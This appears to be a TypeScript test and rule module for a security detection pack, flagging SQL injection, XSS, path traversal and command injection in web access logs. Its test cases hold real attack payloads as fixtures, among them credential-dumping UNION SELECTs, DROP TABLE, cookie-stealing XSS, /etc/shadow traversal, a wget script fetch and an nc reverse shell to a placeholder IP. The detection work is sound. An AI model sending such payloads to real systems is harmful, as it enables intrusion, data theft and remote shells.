import type { EventType } from '@threatstream/events';
import { is } from '../conditions';
import { defineRule } from '../rule';
import type { PackEntry, RuleCase } from './case';
import { accessLogTime, parsed, webRequest } from './fixtures';
import { COMMAND_INJECTION, PATH_TRAVERSAL, SQL_INJECTION, XSS } from './web-attack-patterns';

const DECODE = ['url', 'plus_as_space', 'html'] as const;
const BENIGN = ['/', '/index.html?utm_source=newsletter&utm_campaign=spring', '/search?q=select+a+color+from+the+list', '/api/v1/orders?limit=20&offset=40&sort=-created', '/static/app.3f9a1c.js', '/blog/2026/03/union-station-renovation', '/docs/../guide'.replace('../', ''), "/products?name=O'Brien+%26+Sons", '/calendar?date=2026-03-02&view=week'];

function cases(attacks: readonly string[]): RuleCase[] {
  return [
    ...attacks.map((url, i) => ({ name: `attack: ${url}`, events: [webRequest({ src: '203.0.113.80', url, at: i })], fires: 1 })),
    { name: 'everyday requests do not fire', events: BENIGN.map((url, i) => webRequest({ src: '192.0.2.10', url, at: i })), fires: 0 },
    {
      name: 'the attacks as Apache combined log lines through the syslog adapter fire',
      events: parsed(attacks.map((url, i) => `203.0.113.80 - - [${accessLogTime(i)}] "GET ${url.replaceAll(' ', '%20')} HTTP/1.1" 200 612 "-" "sqlmap/1.8"`)),
      fires: attacks.length,
    },
  ];
}

function webRule(id: string, title: string, description: string, eventType: EventType, techniques: string[], patterns: readonly string[]) {
  return defineRule({
    id,
    title,
    description,
    severity: 'HIGH',
    eventType,
    techniques,
    kind: 'single',
    match: is.regex('url.original', patterns, { decode: DECODE }),
  });
}

export const webSqlInjection: PackEntry = {
  rule: webRule('web-sql-injection', 'SQL injection in a request', 'A request URI carries SQL injection (boolean tautologies, UNION SELECT, stacked queries, time-based functions), read from a web access log.', 'sql_injection', ['T1190'], SQL_INJECTION),
  cases: cases(["/item.php?id=1'+OR+'1'='1", '/products?id=1%20UNION%20SELECT%20username,password%20FROM%20users--', '/get?id=1;DROP+TABLE+users', '/q?id=1+AND+SLEEP(5)']),
};

export const webXss: PackEntry = {
  rule: webRule('web-xss', 'Cross-site scripting in a request', 'A request URI carries a script injection (script tags, event handlers, javascript: URLs), read from a web access log.', 'xss', ['T1189', 'T1059.007'], XSS),
  cases: cases(['/search?q=%3Cscript%3Ealert(1)%3C/script%3E', '/p?name=<img+src=x+onerror=alert(document.cookie)>', '/r?next=javascript:alert(1)']),
};

export const webPathTraversal: PackEntry = {
  rule: webRule('web-path-traversal', 'Path traversal in a request', 'A request URI climbs out of the web root (../ sequences, encoded or not) or names system files such as /etc/passwd, read from a web access log.', 'path_traversal', ['T1190', 'T1083'], PATH_TRAVERSAL),
  cases: cases(['/download?file=../../../../etc/passwd', '/static/%2e%2e/%2e%2e/etc/shadow', '/img?f=..%252f..%252fwindows/win.ini']),
};

export const webCommandInjection: PackEntry = {
  rule: webRule('web-command-injection', 'Command injection in a request', 'A request URI carries shell syntax that runs a command (separators before a command, $( ), backticks, /bin/sh), read from a web access log.', 'command_injection', ['T1190', 'T1059', 'T1059.004'], COMMAND_INJECTION),
  cases: cases(['/ping?host=127.0.0.1;cat+/etc/passwd', '/cgi-bin/test?x=$(wget+http://203.0.113.5/x.sh)', '/run?cmd=|nc+-e+/bin/sh+203.0.113.5+4444']),
};
